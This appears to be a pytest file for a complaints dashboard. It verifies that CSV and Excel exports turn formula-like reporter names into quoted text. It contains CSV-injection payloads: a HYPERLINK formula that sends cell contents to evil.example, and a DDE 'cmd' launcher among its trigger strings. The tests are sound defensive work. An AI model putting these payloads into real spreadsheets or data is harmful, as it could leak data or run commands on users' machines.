"""Issue 15, item 11: a citizen's text in an export is text in the officer's spreadsheet, never a formula.

The issue's payload goes in as a reporter's name, out through the real export callback, and the files are
read back: the CSV as a spreadsheet would split it, the workbook with openpyxl."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from dashboard import briefing_tables as tables
from data_sources.store.models import PersonalComplaintReporter
from layouts.briefing import ids
from tests.integration.test_briefing_callbacks import client_as, export, seed

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&K8&K9,"Lihat")'
NOW = dt.datetime(2026, 12, 5, 1, 0, tzinfo=dt.UTC)
TRIGGERS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "  =1+1"]


@pytest.fixture
def app(settings, engine, redis_client):
    from web.factory import create_app

    seed(engine)
    with engine.begin() as conn:
        conn.execute(
            update(PersonalComplaintReporter)
            .where(PersonalComplaintReporter.complaint_id == "c1")
            .values(name=PAYLOAD, phone="+62-812-9999")
        )
    return create_app(settings, engine=engine, redis_client=redis_client)


def _file(body: str) -> bytes:
    return base64.b64decode(json.loads(body)["response"][ids.download]["data"]["content"])


def test_the_csv_export_holds_the_payload_as_text(app, engine):
    client = client_as(app, engine, "officer")
    status, body = export(client, "complaints", "csv", "?period=7d")
    assert status == 200
    rows = list(csv.reader(io.StringIO(_file(body).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOAD in cells and "'+62-812-9999" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), [
        c for c in cells if c[:1] in "=+-@\t\r"
    ]


def test_the_excel_export_holds_the_payload_as_a_text_cell(app, engine):
    client = client_as(app, engine, "officer")
    status, body = export(client, "complaints", "xlsx", "?period=7d")
    assert status == 200
    sheet = load_workbook(io.BytesIO(_file(body))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    payload_cells = [cell for cell in cells if cell.value == PAYLOAD]
    assert len(payload_cells) == 1
    assert payload_cells[0].data_type == "s" and payload_cells[0].quotePrefix  # text, and stays text on edit
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_formula_start_is_neutralised_in_both_files(text):
    rows = [{"complaint_id": "c1", "reporter_name": text, "reporter_phone": "0812", "opd": text}]
    parsed = list(csv.reader(io.StringIO(tables.to_csv("complaints", rows, "id").decode("utf-8-sig"))))
    assert parsed[1][tables.column_index("complaints", "reporter_name")] == "'" + text
    sheet = load_workbook(io.BytesIO(tables.to_xlsx("complaints", rows, "id", title="t", data_time=NOW, filters=[])))
    # XML reads a carriage return back as a line feed
    texts = [c for row in sheet.active.iter_rows() for c in row if c.value == text.replace("\r", "\n")]
    assert len(texts) == 2 and all(c.data_type == "s" and c.quotePrefix for c in texts)


def test_ordinary_text_and_numbers_are_left_alone():
    rows = [{"complaint_id": "c-1", "reporter_name": "Siti", "reporter_phone": "0812"}]
    parsed = list(csv.reader(io.StringIO(tables.to_csv("complaints", rows, "id").decode("utf-8-sig"))))
    assert parsed[1][:1] == ["c-1"] and "Siti" in parsed[1]
    league = [{"rank": 1, "opd": "DINKES", "received": 10, "rate_pct": -1.5}]
    parsed = list(csv.reader(io.StringIO(tables.to_csv("league", league, "en").decode("utf-8-sig"))))
    assert "-1.5" in parsed[1]  # a number is a number, even below zero
